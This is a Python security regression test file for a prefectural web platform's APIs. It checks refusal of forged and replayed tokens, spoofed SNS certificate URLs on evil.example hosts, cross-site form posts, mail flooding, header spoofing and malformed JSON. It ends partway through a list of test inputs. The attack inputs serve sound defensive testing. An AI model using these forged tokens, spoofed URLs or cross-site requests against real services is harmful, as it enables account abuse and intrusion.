"""Issue #11: every attack on the APIs, performed against the running local stack over HTTP
(or, where the attack is not over HTTP, against the code that refuses it). Each test fails
if the control it names is taken away."""

import base64
import csv
import io
import json
import os
import re
import socket
import subprocess
import sys
import threading
import time
import uuid
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from urllib.parse import quote, unquote, urlencode

import pytest

from hiroba_core import sns, tokens
from hiroba_core.domain import Consultation, Question
from hiroba_core.ids import parse_receipt
from hiroba_core.mail import Mailer
from hiroba_core.problems import TYPE_BASE
from hiroba_core.security_headers import SECURITY_HEADERS
from hiroba_core.settings import DEVELOPMENT_SECRETS, Settings
from hiroba_core.store.publishing import PublishingStore
from hiroba_core.validation import normalize
from infra.local.stack import ROOT, AppProcess
from tests.functions.conftest import Api, valid
from tests.newsletter.test_subscriptions import post_sns, sns_message

from .conftest import TOPIC, aws, payment_keys, production_env

OLD_PUBLIC_SECRET = "hiroba-local-development-secret"  # in the repository until issue #11
LIST = "/staff/consultations/open-one/comments"


def problem(reply, slug, status):
    assert reply.status == status, reply
    assert reply.headers["content-type"].startswith("application/problem+json"), reply
    data = reply.json()
    assert data["type"] == TYPE_BASE + slug, data
    assert data["title"] and data["detail"] and data["title_en"] and data["detail_en"]
    return data


def address():
    return f"sec-{uuid.uuid4().hex[:10]}@example.jp"


def fresh_ip():
    return f"198.18.{uuid.uuid4().int % 250}.{uuid.uuid4().int % 250 + 1}"


def bearer(token):
    return {"Authorization": f"Bearer {token}"}


# ---------------------------------------------------------------- 1. public default secret


def test_tokens_forged_with_the_old_public_secret_are_refused(api, inbox):
    """Anyone could mint unsubscribe links and form tickets with the secret in the repo."""
    forged = tokens.seal(OLD_PUBLIC_SECRET, "unsubscribe", {"s": "0" * 32})
    reply = api.request(
        "POST",
        "/newsletter/unsubscribe",
        raw=urlencode({"token": forged}).encode(),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    problem(reply, "invalid-token", 400)
    ticket = tokens.form_ticket(OLD_PUBLIC_SECRET, time.time() - 60)
    reply = api.comment("open-one", valid(ticket=ticket))
    problem(reply, "suspected-bot", 400)


def _import_app(app, env):
    return subprocess.run(
        [sys.executable, "-c", "import app"],
        cwd=ROOT / "functions" / app,
        env={**env, "PYTHONPATH": str(ROOT / "functions")},
        capture_output=True,
        text=True,
        check=False,
    )


def test_production_refuses_to_start_without_a_stored_secret(stack, cognito):
    suffix = uuid.uuid4().hex[:8]
    base = production_env(stack, cognito, suffix)
    # nothing stored under the ids yet; a plain HIROBA_SECRET variable does not count
    missing = {k: v for k, v in base.items() if not k.endswith("_ID")}
    result = _import_app("publishing", {**missing, "HIROBA_SECRET": "x" * 40})
    assert result.returncode != 0
    assert "ConfigurationError" in result.stderr and "HIROBA_SECRET_ID" in result.stderr
    assert "HIROBA_ORIGIN_VERIFY_ID" in result.stderr
    manager, ssm = aws(stack, "secretsmanager"), aws(stack, "ssm")
    manager.create_secret(Name=f"hiroba/secret-{suffix}", SecretString=OLD_PUBLIC_SECRET)
    ssm.put_parameter(Name=f"/hiroba/origin-verify-{suffix}", Value="o" * 40, Type="String")
    result = _import_app("procedures", base)
    assert result.returncode != 0 and "SecureString" in result.stderr
    ssm.put_parameter(
        Name=f"/hiroba/origin-verify-{suffix}", Value="o" * 40, Type="SecureString", Overwrite=True
    )
    result = _import_app("procedures", base)
    assert result.returncode != 0 and "known development value" in result.stderr
    manager.put_secret_value(SecretId=f"hiroba/secret-{suffix}", SecretString="k" * 40)
    manager.create_secret(
        Name=f"hiroba/payment-keys-{suffix}", SecretString=json.dumps(payment_keys())
    )
    assert _import_app("procedures", base).returncode == 0
    # the publishing app also needs the SES topic: without it any signed SNS message counts
    no_topic = _import_app("publishing", {**base, "HIROBA_SNS_TOPIC_ARN": ""})
    assert no_topic.returncode != 0 and "HIROBA_SNS_TOPIC_ARN" in no_topic.stderr
    # and development staff tokens are refused, and mails must not link to a test server
    hs256 = _import_app("publishing", {**base, "HIROBA_JWT_SECRET": "j" * 40})
    assert hs256.returncode != 0 and "HIROBA_JWT_SECRET" in hs256.stderr
    local = _import_app("procedures", {**base, "HIROBA_SITEURL": "http://127.0.0.1:8000"})
    assert local.returncode != 0 and "HIROBA_SITEURL" in local.stderr


def test_production_takes_payments_only_with_stored_provider_keys(stack, cognito):
    """The payment providers' keys come from Secrets Manager (HIROBA_PAYMENT_KEYS_ID) and
    nowhere else in production; the sandbox acquirer, a missing or short key, or a key in a
    plain variable stop the procedures app at cold start, naming what to set."""
    suffix = uuid.uuid4().hex[:8]
    base = production_env(stack, cognito, suffix)
    manager, ssm = aws(stack, "secretsmanager"), aws(stack, "ssm")
    manager.create_secret(Name=f"hiroba/secret-{suffix}", SecretString="k" * 40)
    ssm.put_parameter(Name=f"/hiroba/origin-verify-{suffix}", Value="o" * 40, Type="SecureString")
    # nothing stored under the payment keys' id yet
    unread = _import_app("procedures", base)
    assert unread.returncode != 0 and "HIROBA_PAYMENT_KEYS_ID" in unread.stderr
    # as the stack creates the secret: a Pay-easy key, Stripe's still empty
    keys = payment_keys()
    manager.create_secret(
        Name=f"hiroba/payment-keys-{suffix}",
        SecretString=json.dumps(
            {
                "stripe_secret_key": "",
                "stripe_webhook_secret": "",
                "payeasy_key": keys["payeasy_key"],
            }
        ),
    )
    empty = _import_app("procedures", base)
    assert empty.returncode != 0
    assert "stripe_secret_key" in empty.stderr and "stripe_webhook_secret" in empty.stderr
    assert "payeasy_key" not in empty.stderr.split("set:", 1)[1]
    manager.put_secret_value(
        SecretId=f"hiroba/payment-keys-{suffix}", SecretString=json.dumps(keys)
    )
    assert _import_app("procedures", base).returncode == 0
    # the sandbox acquirer takes no real money
    sandbox = _import_app("procedures", {**base, "HIROBA_CARD_PROVIDER": "sandbox-card"})
    assert sandbox.returncode != 0 and "HIROBA_CARD_PROVIDER=stripe" in sandbox.stderr
    # a key in a plain variable is refused, even beside the stored ones
    plain = _import_app("procedures", {**base, "HIROBA_STRIPE_SECRET_KEY": "sk_live_" + "x" * 40})
    assert plain.returncode != 0 and "HIROBA_STRIPE_SECRET_KEY" in plain.stderr
    # a name the app does not know is a typo, not a key to ignore
    manager.put_secret_value(
        SecretId=f"hiroba/payment-keys-{suffix}",
        SecretString=json.dumps({**keys, "stripe_secretkey": "x"}),
    )
    typo = _import_app("procedures", base)
    assert typo.returncode != 0 and "stripe_secretkey" in typo.stderr
    # the publishing app never needs (nor, deployed, may read) the payment keys
    no_payments = {k: v for k, v in base.items() if k != "HIROBA_PAYMENT_KEYS_ID"}
    assert _import_app("publishing", no_payments).returncode == 0


def test_make_run_keeps_random_keys_of_its_own_checkout(tmp_path):
    """`make run` (LocalStack under .hiroba/) must never fall back to a value anyone can
    read in the repository: each checkout makes its own keys once and keeps them."""
    from infra.local.stack import LocalStack

    one = LocalStack(tmp_path / "one", origin_verify=True)
    again = LocalStack(tmp_path / "one", origin_verify=True)
    other = LocalStack(tmp_path / "other", origin_verify=True)
    for name in ("secret", "jwt_secret", "origin_verify"):
        value = getattr(one, name)
        assert len(value) >= 32 and value not in DEVELOPMENT_SECRETS
        assert getattr(again, name) == value  # links mailed yesterday still work
        assert getattr(other, name) != value
    for name in ("secret", "jwt-secret", "origin-verify"):
        assert (tmp_path / "one" / name).stat().st_mode & 0o077 == 0  # the owner's only
    env = one.env()
    assert env["HIROBA_SECRET"] == one.secret
    assert env["HIROBA_ORIGIN_VERIFY"] == one.origin_verify
    assert Settings.from_env(env).secret == one.secret


def test_production_uses_the_stored_key_and_still_accepts_the_previous_one(production):
    """Rotation: links and tickets made with the previous key keep working; others don't."""
    app, origin = production["publishing"], {"X-Hiroba-Origin-Verify": production["origin"]}
    current, previous = production["keys"]["current"], production["keys"]["previous"][0]
    issued = app.request("GET", "/form-ticket", headers=origin).json()["ticket"]
    assert tokens.ticket_age(current, issued) is not None
    assert tokens.ticket_age(OLD_PUBLIC_SECRET, issued) is None
    for key, status in ((previous, 201), (current, 201), (OLD_PUBLIC_SECRET, 400)):
        ticket = tokens.form_ticket(key, time.time() - 30)
        headers = {**origin, "CloudFront-Viewer-Address": f"{fresh_ip()}:443"}
        reply = app.request(
            "POST", "/consultations/open-one/comments", valid(ticket=ticket), headers
        )
        assert reply.status == status, reply
    for key, status in ((previous, 200), (OLD_PUBLIC_SECRET, 400)):
        token = tokens.seal(key, "unsubscribe", {"s": uuid.uuid4().hex})
        reply = app.request(
            "POST",
            "/newsletter/unsubscribe",
            raw=urlencode({"token": token}).encode(),
            headers={**origin, "Content-Type": "application/x-www-form-urlencoded"},
        )
        assert reply.status == status, reply


def test_a_replay_after_a_rotation_shows_the_inquiry_code_that_works(stack):
    """An application accepted under the old key, its answer lost, retried with the same
    Idempotency-Key after the rotation: the replay must show the 問合せ番号 first given,
    not one derived with the new key that matches nothing stored."""
    from hiroba_core import catalogue
    from hiroba_core.services import applications
    from hiroba_core.store.procedures import ProceduresStore
    from tests.functions.test_procedures_api import body, fields

    old, new = "o" * 40, "n" * 40
    before = replace(stack.settings(), secret=old, previous_secrets=())
    after = replace(before, secret=new, previous_secrets=(old,))
    procedures = catalogue.load(catalogue.REPOSITORY)
    key = f"rotation-{uuid.uuid4()}"
    first, _ = applications.submit(
        ProceduresStore(before), procedures, body(), client=fresh_ip(), idempotency_key=key
    )
    rotated = ProceduresStore(after)
    again, replayed = applications.submit(
        rotated, procedures, body(), client=fresh_ip(), idempotency_key=key
    )
    assert replayed and again.inquiry_code == first.inquiry_code
    shown = fields(again.as_dict())
    application, _ = applications.inquire(rotated, procedures, shown, client=fresh_ip())
    assert application.reference == first.reference


def test_every_deployed_sender_of_links_reads_the_apps_stored_key():
    """A function that mails preferences and unsubscribe links (the JMA poller's 防災 mails)
    must seal them with the key the publishing app verifies, read from the same secret, and
    point them at the site: with a key of its own process every link would be refused."""
    from infra.aws import template

    document = template.template()
    name = template.SECRETS["FunctionSecret"][0]
    for app in ("publishing", "procedures"):
        config = json.loads((ROOT / "functions" / app / ".chalice" / "config.json").read_text())
        assert config["stages"]["prod"]["environment_variables"]["HIROBA_SECRET_ID"] == name
    senders = {
        logical_id: resource["Properties"]
        for logical_id, resource in document["Resources"].items()
        if resource["Type"] == "AWS::Lambda::Function"
        and "HIROBA_MAIL" in resource["Properties"]["Environment"]["Variables"]
    }
    assert senders  # the JMA poller
    for logical_id, properties in senders.items():
        variables = properties["Environment"]["Variables"]
        assert variables["HIROBA_SECRET_ID"] == name, logical_id
        assert "HIROBA_SECRET" not in variables, logical_id
        site = document["Parameters"][variables["HIROBA_SITEURL"]["Ref"]]
        assert site["AllowedPattern"].startswith("^https://"), logical_id
        role = document["Resources"][properties["Role"]["Fn::GetAtt"][0]]["Properties"]
        statements = [
            statement
            for policy in role["Policies"]
            for statement in policy["PolicyDocument"]["Statement"]
        ]
        assert any(
            "secretsmanager:GetSecretValue" in str(statement["Action"])
            and statement["Resource"] == template.secret_arn(name)
            for statement in statements
        ), logical_id


def test_the_newsletter_command_never_mails_links_nobody_can_open(tmp_path):
    """infra.tools newsletter: without the apps' key (a key of its own process), or with
    the production key but the development site's URL, it stops before mailing anyone."""
    base = {k: v for k, v in os.environ.items() if not k.startswith("HIROBA_")}
    base["PYTHONPATH"] = os.pathsep.join([str(ROOT), str(ROOT / "functions")])
    command = [sys.executable, "-m", "infra.tools", "newsletter", "send", "2026-11-27-weekly"]
    for env, says in (
        ({}, "HIROBA_SECRET_ID"),
        ({"HIROBA_SECRET_ID": "hiroba/secret"}, "HIROBA_SITEURL"),
        ({"HIROBA_SECRET_ID": "hiroba/secret", "HIROBA_SITEURL": "http://127.0.0.1:8000"}, "https"),
    ):
        result = subprocess.run(
            command, cwd=tmp_path, env={**base, **env}, capture_output=True, text=True
        )
        assert result.returncode != 0 and says in result.stderr, (env, result.stderr)
        assert "Traceback" not in result.stderr


# ---------------------------------------------------------------- 3. security headers


def _routes(app):
    """{path: [methods]} of an app, as Chalice registered them (a new route is included)."""
    probe = "import app, json; print(json.dumps({p: sorted(m) for p, m in app.app.routes.items()}))"
    out = subprocess.run(
        [sys.executable, "-c", probe],
        cwd=ROOT / "functions" / app,
        env={**os.environ, "PYTHONPATH": str(ROOT / "functions")},
        capture_output=True,
        text=True,
        check=True,
    )
    return json.loads(out.stdout.strip().splitlines()[-1])


def _assert_headers(reply, what):
    for name, value in SECURITY_HEADERS.items():
        assert reply.headers.get(name.lower()) == value, (what, name, reply)


@pytest.mark.parametrize("app", ["publishing", "procedures"])
def test_every_answer_of_every_route_carries_the_security_headers(stack, app):
    """A page or JSON without CSP/nosniff/frame-ancestors can be framed or sniffed."""
    client = Api(stack.apps[app].url)
    routes = _routes(app)
    assert len(routes) >= 6
    answers = 0
    for path, methods in routes.items():
        concrete = path
        while "{" in concrete:
            start, end = concrete.index("{"), concrete.index("}")
            concrete = concrete[:start] + "x" + concrete[end + 1 :]
        for method in methods:
            variants = [({"Accept": "application/json"}, None)]
            if method in ("POST", "PUT"):
                variants = [
                    ({"Content-Type": "application/json"}, b"{}"),
                    (
                        {
                            "Content-Type": "application/x-www-form-urlencoded",
                            "Accept": "text/html",
                        },
                        b"a=1",
                    ),
                ]
            elif path.endswith(("confirm", "preferences", "unsubscribe", "{number}")):
                variants.append(({"Accept": "text/html"}, None))
            for headers, body in variants:
                headers = {**headers, "X-Forwarded-For": fresh_ip()}
                reply = client.request(method, concrete, headers=headers, raw=body)
                assert reply.status < 500, (method, path, reply)
                _assert_headers(reply, f"{method} {path}")
                answers += 1
        # an answer Chalice makes itself: 405 for a method the route does not have
        reply = client.request("PATCH", concrete, headers={"X-Forwarded-For": fresh_ip()})
        assert reply.status == 405, reply
        _assert_headers(reply, f"PATCH {path}")
    assert answers >= len(routes)


def test_the_feature_phone_page_carries_the_security_headers(procedures):
    reply = procedures.request(
        "POST",
        "/m/inquiries",
        raw=b"reference=ACEFGHJKMNPR&inquiry_code=ACEFGHJKMN",
        headers={
            "Content-Type": "application/x-www-form-urlencoded",
            "Accept": "application/xhtml+xml, text/html",
            "X-Forwarded-For": fresh_ip(),
        },
    )
    assert reply.headers["content-type"] == "text/html; charset=Shift_JIS", reply
    _assert_headers(reply, "keitai page")


# ---------------------------------------------------------------- 4. forged SES bounces


def test_a_certificate_on_another_amazonaws_host_is_refused(api, signing):
    """sns.s3.amazonaws.com is an S3 bucket anyone can create: its certificate is theirs."""
    for url in (
        "https://sns.s3.amazonaws.com/cert.pem",
        "https://sns.evil.amazonaws.com/cert.pem",
        "https://sns.ap-northeast-1.amazonaws.com.evil.example/cert.pem",
        "https://sns.us-east-1.amazonaws.com/cert.pem",  # not the topic's region
        "https://sns.ap-northeast-1.amazonaws.com@evil.example/cert.pem",
        "https://sns.ap-northeast-1.amazonaws.com/cert.pem\n",
    ):
        assert not sns.cert_url_allowed(url, topic_arn=TOPIC), url
        message = sns_message(signing, [address()])
        message["SigningCertURL"] = url
        problem(post_sns(api, message), "invalid-signature", 403)
    assert sns.cert_url_allowed(
        "https://sns.ap-northeast-1.amazonaws.com/SimpleNotificationService-abc.pem",
        topic_arn=TOPIC,
    )


def test_a_captured_notification_replayed_later_is_refused(api, inbox, signing):
    victim = address()
    message = sns_message(signing, [victim])
    message["Timestamp"] = (datetime.now(UTC) - timedelta(hours=2)).isoformat()
    from cryptography.hazmat.primitives import hashes
    from cryptography.hazmat.primitives.asymmetric import padding

    signature = signing["key"].sign(
        sns.string_to_sign(message), padding.PKCS1v15(), hashes.SHA256()
    )
    message["Signature"] = base64.b64encode(signature).decode()
    problem(post_sns(api, message), "invalid-signature", 403)
    fresh = sns_message(signing, [victim])
    assert post_sns(api, fresh).json() == {"status": "suppressed:1"}


def test_production_checks_the_topic_and_never_the_local_certificates(signing):
    message = sns_message(signing, [address()])
    with pytest.raises(sns.SignatureInvalid):
        sns.verify(message, signing["prefix"], None, production=True)
    with pytest.raises(sns.SignatureInvalid):  # the loopback prefix is for local stacks only
        sns.verify(message, signing["prefix"], TOPIC, production=True)
    assert sns.verify(message, signing["prefix"], TOPIC) is message


# ---------------------------------------------------------------- 5. cross-site posts, copy mail

FORM = {"Content-Type": "application/x-www-form-urlencoded", "Accept": "text/html"}
# every state-changing route, with a body it would otherwise accept or at least read
STATE_CHANGING = [
    ("publishing", "POST", "/consultations/open-one/comments", b"answer-q1=%E8%B3%9B%E6%88%90"),
    ("publishing", "POST", "/proposals", b"answer-q1=%E8%B3%9B%E6%88%90"),
    ("publishing", "POST", "/newsletter/subscriptions", b"email=victim%40example.jp&topics=kanko"),
    ("publishing", "POST", "/newsletter/confirm", b"token=x"),
    ("publishing", "POST", "/newsletter/preferences", b"token=x&topics=kanko"),
    ("publishing", "POST", "/newsletter/unsubscribe", b"token=x"),
    ("procedures", "POST", "/inquiries", b"reference=ACEFGHJKMNPR&inquiry_code=ACEFGHJKMN"),
    ("procedures", "POST", "/m/inquiries", b"reference=ACEFGHJKMNPR&inquiry_code=ACEFGHJKMN"),
]


@pytest.mark.parametrize(("app", "method", "path", "body"), STATE_CHANGING)
def test_a_form_on_another_site_cannot_post_for_the_resident(stack, inbox, app, method, path, body):
    client = Api(stack.apps[app].url)
    before = len(inbox.all())
    for attack in (
        {"Sec-Fetch-Site": "cross-site", "Origin": "https://evil.example"},
        {"Sec-Fetch-Site": "same-site", "Origin": "https://evil.pref.miyagi.jp"},
        {"Origin": "https://evil.example"},  # a browser without Fetch Metadata
        {"Origin": "null"},  # a sandboxed frame or a data: page
    ):
        headers = {**FORM, **attack, "X-Forwarded-For": fresh_ip()}
        problem(client.request(method, path, raw=body, headers=headers), "cross-site-request", 403)
    assert len(inbox.all()) == before


@pytest.mark.parametrize("app", ["publishing", "procedures"])
def test_every_state_changing_route_refuses_another_site(stack, app):
    """The list above names the forms; this asks the app itself, so a route added later
    (payments next) is covered without anyone remembering to list it."""
    client = Api(stack.apps[app].url)
    changing = 0
    for path, methods in _routes(app).items():
        concrete = path.replace("{", "").replace("}", "")
        for method in set(methods) & {"POST", "PUT", "PATCH", "DELETE"}:
            headers = {**FORM, "Sec-Fetch-Site": "cross-site", "X-Forwarded-For": fresh_ip()}
            reply = client.request(method, concrete, raw=b"a=1", headers=headers)
            problem(reply, "cross-site-request", 403)
            changing += 1
    assert changing >= 3


def test_the_staff_api_refuses_cross_site_changes(api, staff_token):
    reply = api.request(
        "PUT",
        f"{LIST}/x/visibility",
        {"hidden": True, "version": 1},
        {**bearer(staff_token()), "Sec-Fetch-Site": "cross-site"},
    )
    problem(reply, "cross-site-request", 403)


def test_the_site_own_forms_and_programs_still_post(api):
    same = api.comment("open-one", valid(), {"Sec-Fetch-Site": "same-origin"})
    assert same.status == 201, same
    site_origin = api.comment("open-one", valid(), {"Origin": "http://127.0.0.1:8000"})
    assert site_origin.status == 201, site_origin
    program = api.comment("open-one", valid())  # no browser headers: SNS, one-click, scripts
    assert program.status == 201, program


COPY_LINK = re.compile(r"/api/publishing(/comments/copy\?token=\S+)")
FORM_HTML = {"Content-Type": "application/x-www-form-urlencoded", "Accept": "text/html"}


def _copy_link(message):
    match = COPY_LINK.search(message.get_body(("plain",)).get_content())
    assert match, message
    return match.group(1)


def _press_copy_button(api, link, headers=FORM_HTML):
    token = unquote(link.split("token=", 1)[1])
    return api.request(
        "POST", "/comments/copy", headers=headers, raw=urlencode({"token": token}).encode()
    )


def test_the_copy_mail_echoes_nothing_and_floods_nobody(api, inbox, stack):
    """The copy went to any address typed in: now the address gets only a link to confirm
    itself, in the prefecture's words, and the copy (still without the sender's text) only
    after the button behind that link is pressed, once."""
    victim = address()
    spam = "当選しました！ http://evil.example/claim で受け取ってください"
    limit = stack.settings().address_mail_limit
    receipts = []
    for _ in range(limit + 3):
        body = valid(email=victim, name="宮城県庁 お知らせ係", send_copy="yes")
        body["answers"]["q1"] = spam
        reply = api.comment("open-one", body)
        assert reply.status == 201
        receipts.append(reply.json()["receipt_number"])
    mails = inbox.to(victim)
    assert len(mails) == limit  # the per-address limit holds for the verification mail
    first = mails[0]
    text = first.get_body(("plain",)).get_content()
    assert "確認" in first["Subject"] and "受付番号" not in first["Subject"]
    assert "24時間以内" in text and "覚えがない場合" in text
    assert not any(number in text for number in receipts)  # no copy before verification
    assert "evil.example" not in text and "当選" not in text and "お知らせ係" not in text

    link = _copy_link(first)
    page = api.request("GET", link, headers={"Accept": "text/html"})
    assert page.status == 200 and "控えを受け取る" in page.text()
    assert len(inbox.to(victim)) == limit  # opening the link (a scanner) sends nothing

    cross = _press_copy_button(api, link, {**FORM_HTML, "Sec-Fetch-Site": "cross-site"})
    assert cross.status == 403 and len(inbox.to(victim)) == limit

    sent = _press_copy_button(api, link)
    assert sent.status == 200 and "控えを送りました" in sent.text()
    copies = [m for m in inbox.to(victim) if "受付番号" in m["Subject"]]
    assert len(copies) == 1
    copy = copies[0].get_body(("plain",)).get_content()
    assert any(f"受付番号: {number}" in copy for number in receipts)
    assert "evil.example" not in copy and "当選" not in copy and "お知らせ係" not in copy

    again = _press_copy_button(api, link)  # a reload, a retry, a second click
    assert again.status == 200 and "送信済み" in again.text()
    token = unquote(link.split("token=", 1)[1])
    replayed = api.request("POST", "/comments/copy", {"token": token})
    assert replayed.status == 200 and replayed.json() == {"status": "already-sent"}
    assert len(inbox.to(victim)) == limit + 1


def test_a_forged_expired_or_foreign_copy_link_sends_nothing(api, inbox, stack):
    victim = address()
    reply = api.comment("open-one", valid(email=victim, send_copy="yes"))
    assert reply.status == 201
    receipt = parse_receipt(reply.json()["receipt_number"])
    (verification,) = inbox.to(victim)
    token = unquote(_copy_link(verification).split("token=", 1)[1])
    secret = stack.settings().secret
    data = {"c": "open-one", "r": receipt, "e": victim}
    day_ago = time.time() - 24 * 3600 - 60
    refused = {
        "forged": tokens.seal(OLD_PUBLIC_SECRET, "comment-copy", data),
        "altered": token[:-6] + ("AAAAAA" if not token.endswith("AAAAAA") else "BBBBBB"),
        "expired": tokens.seal(secret, "comment-copy", data, now=day_ago),
        "other purpose": tokens.seal(secret, "confirm", data),
        "other consultation": tokens.seal(secret, "comment-copy", {**data, "c": "closed-one"}),
        "no such receipt": tokens.seal(secret, "comment-copy", {**data, "r": "0" * len(receipt)}),
        "empty": "",
    }
    for name, bad in refused.items():
        body = problem(api.request("POST", "/comments/copy", {"token": bad}), "invalid-token", 400)
        assert "24時間" in body["detail"], name
        page = api.request(
            "GET", "/comments/copy?token=" + quote(bad), headers={"Accept": "text/html"}
        )
        assert page.status == 400 and "24時間" in page.text() and "24 hours" in page.text(), name
    assert len(inbox.to(victim)) == 1  # the verification only: no copy for any of them


def test_a_copy_link_mailed_before_a_rotation_still_works(stack, inbox):
    """Sealed with the key of yesterday, opened after the rotation: it works while the old
    key is listed as previous, and not once it is gone."""
    from hiroba_core.errors import CopyLinkInvalid
    from hiroba_core.services import comments

    old, new = "o" * 40, "n" * 40
    before = replace(stack.settings(), secret=old, previous_secrets=())
    after = replace(before, secret=new, previous_secrets=(old,))
    mailer = Mailer.from_settings(before)
    victim = address()
    comments.submit(
        PublishingStore(before),
        "open-one",
        valid(email=victim, send_copy="yes"),
        client=fresh_ip(),
        mailer=mailer,
    )
    (verification,) = inbox.to(victim)
    token = unquote(_copy_link(verification).split("token=", 1)[1])
    with pytest.raises(CopyLinkInvalid):
        comments.send_verified_copy(
            PublishingStore(replace(after, previous_secrets=())), mailer, token
        )
    receipt, sent = comments.send_verified_copy(PublishingStore(after), mailer, token)
    assert sent and len(inbox.to(victim)) == 2
    assert f"受付番号: {receipt.display}" in inbox.to(victim)[-1].get_body(("plain",)).get_content()


def test_a_copy_the_mail_server_refused_can_be_sent_again(stack, inbox):
    """The once-only mark is taken back when the transport refuses the copy: the button
    then works again, instead of the copy being lost for good."""
    from hiroba_core.errors import CopyUnavailable
    from hiroba_core.services import comments

    settings = stack.settings()
    closed = socket.socket()
    closed.bind(("127.0.0.1", 0))  # a port nobody listens on: the connection is refused
    down = Mailer.from_settings(
        replace(settings, mail_transport=f"smtp://127.0.0.1:{closed.getsockname()[1]}")
    )
    mailer = Mailer.from_settings(settings)
    victim = address()
    store = PublishingStore(settings)
    comments.submit(
        store, "open-one", valid(email=victim, send_copy="yes"), client=fresh_ip(), mailer=mailer
    )
    (verification,) = inbox.to(victim)
    token = unquote(_copy_link(verification).split("token=", 1)[1])
    try:
        with pytest.raises(CopyUnavailable):
            comments.send_verified_copy(store, down, token)
    finally:
        closed.close()
    assert len(inbox.to(victim)) == 1
    _, sent = comments.send_verified_copy(store, mailer, token)
    assert sent and len(inbox.to(victim)) == 2
    _, sent = comments.send_verified_copy(store, mailer, token)
    assert not sent and len(inbox.to(victim)) == 2


# ---------------------------------------------------------------- 6. throttles


def test_one_address_cannot_be_flooded_with_confirmation_mails(api, inbox, stack):
    victim = address()

    def post(_):
        headers = {"X-Forwarded-For": fresh_ip()}
        body = {"email": victim, "topics": ["kanko"]}
        return api.request("POST", "/newsletter/subscriptions", body, headers).status

    with ThreadPoolExecutor(10) as pool:
        statuses = list(pool.map(post, range(30)))
    limit = stack.settings().address_mail_limit
    assert statuses.count(202) == limit and statuses.count(429) == 30 - limit, statuses
    assert len(inbox.to(victim)) == limit


def test_one_client_cannot_subscribe_address_after_address(api, stack):
    client = fresh_ip()
    statuses = [
        api.request(
            "POST",
            "/newsletter/subscriptions",
            {"email": address(), "topics": ["kanko"]},
            {"X-Forwarded-For": client},
        ).status
        for _ in range(stack.settings().subscribe_client_limit + 2)
    ]
    assert statuses[-1] == 429 and statuses.count(202) == stack.settings().subscribe_client_limit


def test_api_gateway_cannot_be_reached_around_cloudfront(production):
    app = production["procedures"]
    refused = app.request("GET", "/health")
    problem(refused, "origin-not-verified", 403)
    _assert_headers(refused, "refused around CloudFront")  # even the refusal
    wrong = {
        "X-Hiroba-Origin-Verify": production["origin"][:-1]
        + ("B" if production["origin"].endswith("A") else "A")
    }
    problem(app.request("GET", "/health", headers=wrong), "origin-not-verified", 403)
    right = {"X-Hiroba-Origin-Verify": production["origin"]}
    assert app.request("GET", "/health", headers=right).status == 200


def _inquiry(client, headers, path="/inquiries"):
    body = {"reference": "ACEF-GHJK-MNPR", "inquiry_code": "ACEFG-HJKMN"}
    return client.request("POST", path, body, headers).status


def test_behind_cloudfront_the_viewer_address_is_the_client_key(production):
    """Rotating X-Forwarded-For must not dodge the limit; one viewer is one client (IPv6
    too), and viewers behind the same edge are not one client."""
    app, origin = production["procedures"], {"X-Hiroba-Origin-Verify": production["origin"]}
    viewer = f"2001:db8::{uuid.uuid4().int % 65000:x}:443"
    statuses = [
        _inquiry(
            app, {**origin, "CloudFront-Viewer-Address": viewer, "X-Forwarded-For": fresh_ip()}
        )
        for _ in range(11)
    ]
    assert statuses[:10] == [404] * 10 and statuses[10] == 429, statuses
    edge = "198.51.100.7"  # one edge address, many viewers
    for n in range(12):
        headers = {**origin, "CloudFront-Viewer-Address": f"{fresh_ip()}:{n + 1000}"}
        assert _inquiry(app, {**headers, "X-Forwarded-For": edge}) == 404


def test_through_the_proxy_a_viewer_cannot_choose_its_address(cdn):
    statuses = [
        _inquiry(
            cdn,
            {"CloudFront-Viewer-Address": f"{fresh_ip()}:1", "X-Hiroba-Origin-Verify": "guess"},
            "/api/procedures/inquiries",
        )
        for _ in range(11)
    ]
    # the proxy replaced both headers: every request is the same viewer, verified
    assert statuses[:10] == [404] * 10 and statuses[10] == 429, statuses


# ---------------------------------------------------------------- 7. bad input never gives 500

FIVE_ROUTES = [
    ("procedures", "/applications", "application/json"),
    ("publishing", "/proposals", "application/json"),
    ("publishing", "/newsletter/subscriptions", "application/json"),
    ("procedures", "/inquiries", "application/json"),
    ("publishing", "/newsletter/sns", "text/plain; charset=UTF-8"),
]
ODD_BODIES = [
    b"[" * 2000,  # RecursionError in the JSON parser
    b'{"a":' * 2000,
    b'{"answers": ' + b"[" * 900 + b"]" * 900 + b"}",  # deep, but parses
    (
        b'{"procedure": "\\ud800", "reference": "\\udfff", "inquiry_code": "\\ud800",'
        b' "email": "\\ud800@example.jp", "topics": ["\\udc00"], "answers": {"q1": "\\ud800"},'
        b' "applicant": {"name": "\\ud800"}, "Type": "Notification", "Message": "\\ud800"}'
    ),
    b'{"\\ud800": 1}',
    b'"\\ud800"',
]


@pytest.mark.parametrize(("app", "path", "content_type"), FIVE_ROUTES)
@pytest.mark.parametrize("body", ODD_BODIES, ids=range(len(ODD_BODIES)))
def test_odd_json_is_a_problem_never_a_server_error(stack, app, path, content_type, body):
    client = Api(stack.apps[app].url)
    headers = {"Content-Type": content_type, "X-Forwarded-For": fresh_ip()}
    reply = client.request("POST", path, raw=body, headers=headers)
    assert reply.status in (400, 422), reply
    data = problem(reply, "bad-json", 400)
    assert "JSON" in data["detail"]


# JSON that parses but has the wrong shape: types no form sends, numbers past what
# DynamoDB or Python's int parser take, NaN and Infinity (which json.loads accepts)
WRONG_SHAPES = [
    b"{}",
    b"[]",
    b"null",
    b"NaN",
    b'{"version": NaN, "hidden": true, "response": "x", "status": "accepted"}',
    b'{"version": Infinity, "hidden": true, "status": "accepted"}',
    b'{"version": 1' + b"0" * 50 + b', "hidden": true, "status": "accepted"}',
    b'{"version": 1' + b"0" * 5000 + b"}",
    b'{"answers": [], "email": 1, "topics": "kanko", "token": ["x"], "ticket": 1}',
    b'{"answers": {"q1": ["a"]}, "send_copy": {}, "email": ["a@example.jp"]}',
    b'{"email": "a@example.jp", "topics": [1, {}], "frequency": 1, "lang": []}',
    b'{"hidden": "yes", "response": 1, "note": 1, "status": ["x"], "version": 1}',
    b'{"procedure": "nozei-shomei", "applicant": [], "answers": {"tax": {}}}',
    b'{"reference": 1, "inquiry_code": [], "Type": "Notification", "Message": 1}',
